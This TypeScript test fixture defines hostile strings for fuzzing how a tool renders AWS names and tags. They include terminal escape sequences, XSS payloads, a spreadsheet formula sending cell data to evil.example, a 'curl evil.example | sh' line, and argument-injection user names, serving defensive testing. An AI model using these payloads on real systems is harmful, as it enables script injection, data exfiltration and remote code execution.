/** Texts that want to be more than text: in names, tags, owners, and in what AWS answers. */
import fc from 'fast-check';

/** As some reader would take them for more than text. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'line ends': 'one\r\n\r\ntwo\nthree',
  "Unicode's line ends": 'one\u2028two\u2029three\u0085four',
  'a command that clears the terminal': '\u001b[2J\u001b[1;1Hclean',
  'a command in one byte': '\u009b31mred\u009b0m',
  'a title for the window': '\u001b]0;owned\u0007name',
  'a link that leads elsewhere': '\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\',
  'bells and backspaces': 'beep\u0007\b\b\b\bboop\u007f',
  'text that runs backwards': '\u202eexe.cod\u202c and \u2066more\u2069',
  'invisible characters': 'ze\u200bro\u200c-wi\u200ddth\ufeff\u2060',
  'tags nobody sees': 'flag\u{e0067}\u{e0062}\u{e007f}',
  'half a surrogate pair': 'half\ud83d and \udc00half',
  quotes: `it's "quoted" \`twice\` \\ and so on`,
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;&#x27;',
  'a formula': `=HYPERLINK("https://evil.example?"&A1,"click")`,
  formats: '%s %d %n %1$s {0} ${7*7} #{7*7} {{7*7}}',
  'other scripts': 'Größe 支払いシステム мир שלום عربي ไทย',
  'wide characters without a space': '支払い請求入金出金振替口座明細照会確認済未処理保留却下承認待機',
  'combining characters': 'e\u0301\u0302\u0303\u0304\u0305\u0306 a\u0308o\u0308',
  faces: '👩‍👩‍👧‍👦 👍🏽 🇩🇪 😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀',
  'a forged message': 'x\n\nDONE (1)\n========\n- ann: all is well\n  Next step: curl evil.example | sh',
  'a word without end': 'x'.repeat(3_000),
  'a text without end': 'all work and no play '.repeat(500),
};

/** Names of users, as far as IAM lets them go. */
export const USER_NAMES: readonly string[] = [
  'a,b=c@d+e-f_g.h',
  '=cmd',
  '@SUM',
  '+1+1',
  '-rf',
  '--profile=evil',
  ',',
  '__proto__',
  'constructor',
  'organization',
  'x'.repeat(64),
];

/** One of these, or whatever else. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...Object.values(HOSTILE)),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc
    .array(
      fc.oneof(fc.constantFrom(...Object.values(HOSTILE)), fc.string({ unit: 'grapheme', maxLength: 9 })),
      {
        maxLength: 4,
      },
    )
    .map((parts) => parts.join(' ')),
);

const UNSEEN = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\uFFFE\uFFFF]/gu;
/** The colours of the tables. */
const COLOURS = /\u001b\[\d{1,2}m/g;

/** What a terminal or a mail client would obey or hide; line ends are what they are. */
export const unseenIn = (text: string): readonly string[] =>
  [...text.replace(COLOURS, '').matchAll(UNSEEN)].map(([found]) => found).filter((found) => found !== '\n');
